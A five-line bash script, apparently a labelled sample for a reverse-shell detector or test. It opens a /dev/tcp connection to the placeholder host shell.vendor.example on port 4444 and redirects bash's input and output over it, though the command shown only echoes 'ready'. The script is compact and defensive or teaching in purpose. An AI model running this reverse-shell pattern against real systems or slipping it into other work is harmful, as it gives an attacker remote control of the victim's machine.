#!/bin/bash
# The reverse shell that needs no program at all: bash opens the connection itself. For
# reverse_shell.
exec 5<>/dev/tcp/shell.vendor.example/4444
bash -c 'echo ready' <&5 >&5 2>&5
